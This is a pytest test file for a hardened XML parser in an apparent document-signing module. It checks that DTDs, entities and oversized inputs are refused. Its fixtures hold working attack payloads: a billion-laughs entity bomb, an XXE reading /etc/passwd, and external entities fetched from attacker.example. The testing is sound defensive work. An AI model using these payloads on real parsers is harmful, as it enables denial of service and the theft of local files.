"""Hardened parsing: DTDs and entities are refused, never expanded; size is bounded."""

from __future__ import annotations

import time

import pytest
from lxml import etree

from signing.errors import DocumentTooLarge, ForbiddenXML, MalformedXML
from signing.xml_parser import hardened_parser, parse_xml

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>
"""
FILE_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<MortgageApplication><Name>&xxe;</Name></MortgageApplication>
"""
HTTP_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE foo [ <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote; ]>
<MortgageApplication/>
"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE MortgageApplication SYSTEM "http://attacker.example/application.dtd">
<MortgageApplication/>
"""


def test_a_well_formed_document_parses_to_its_root_element(application_xml, application_tag):
    root = parse_xml(application_xml, max_bytes=len(application_xml))

    assert root.tag == application_tag


def test_a_document_with_an_internal_doctype_is_forbidden():
    with pytest.raises(ForbiddenXML):
        parse_xml(b"<!DOCTYPE a []><a/>", max_bytes=1000)


def test_a_document_with_an_external_dtd_is_forbidden():
    with pytest.raises(ForbiddenXML):
        parse_xml(EXTERNAL_DTD, max_bytes=1000)


def test_an_external_entity_reading_a_local_file_is_forbidden_and_never_read():
    with pytest.raises(ForbiddenXML) as refused:
        parse_xml(FILE_ENTITY, max_bytes=1000)

    assert "root:" not in str(refused.value)


def test_an_external_parameter_entity_over_http_is_forbidden():
    with pytest.raises(ForbiddenXML):
        parse_xml(HTTP_ENTITY, max_bytes=1000)


def test_a_billion_laughs_document_is_forbidden_without_being_expanded():
    started = time.monotonic()

    with pytest.raises(ForbiddenXML):
        parse_xml(BILLION_LAUGHS, max_bytes=10_000)

    assert time.monotonic() - started < 1.0


def test_a_lower_case_doctype_is_forbidden_too():
    with pytest.raises(ForbiddenXML):
        parse_xml(b"<!doctype a><a/>", max_bytes=1000)


def test_a_document_larger_than_the_limit_is_refused(application_xml):
    with pytest.raises(DocumentTooLarge):
        parse_xml(application_xml, max_bytes=len(application_xml) - 1)


def test_a_document_exactly_at_the_limit_is_accepted(application_xml):
    root = parse_xml(application_xml, max_bytes=len(application_xml))

    assert root is not None


def test_the_size_limit_is_checked_before_anything_is_parsed():
    with pytest.raises(DocumentTooLarge):
        parse_xml(BILLION_LAUGHS, max_bytes=100)


def test_a_document_with_mismatched_tags_is_malformed():
    with pytest.raises(MalformedXML):
        parse_xml(b"<a><b></a>", max_bytes=1000)


def test_empty_input_is_malformed():
    with pytest.raises(MalformedXML):
        parse_xml(b"", max_bytes=1000)


def test_an_undeclared_entity_reference_is_malformed():
    with pytest.raises(MalformedXML):
        parse_xml(b"<a>&undeclared;</a>", max_bytes=1000)


def test_a_malformed_document_error_does_not_quote_its_content(personal_data):
    name, id_number = personal_data
    broken = f"<Party><Name>{name}</Name><IdNumber>{id_number}</Party>".encode()

    with pytest.raises(MalformedXML) as refused:
        parse_xml(broken, max_bytes=1000)

    assert name not in str(refused.value)
    assert id_number not in str(refused.value)


def test_a_utf16_document_is_refused_because_it_cannot_be_screened():
    with pytest.raises(ForbiddenXML):
        parse_xml('<?xml version="1.0" encoding="UTF-16"?><a/>'.encode("utf-16"), max_bytes=1000)


def test_a_gb18030_document_is_accepted(personal_data):
    name, _ = personal_data
    document = f'<?xml version="1.0" encoding="GB18030"?><Name>{name}</Name>'.encode("gb18030")

    root = parse_xml(document, max_bytes=1000)

    assert root.text == name


def test_text_input_is_refused_so_that_nothing_is_decoded_before_verification():
    with pytest.raises(TypeError):
        parse_xml("<a/>", max_bytes=1000)  # type: ignore[arg-type]


def test_the_hardened_parser_leaves_internal_entities_unexpanded():
    document = b'<!DOCTYPE a [<!ENTITY secret "expanded">]><a>&secret;</a>'

    root = etree.fromstring(document, parser=hardened_parser())

    assert "expanded" not in etree.tostring(root).decode()


def test_the_hardened_parser_does_not_fetch_external_entities():
    root = etree.fromstring(FILE_ENTITY, parser=hardened_parser())

    assert "root:" not in etree.tostring(root).decode()
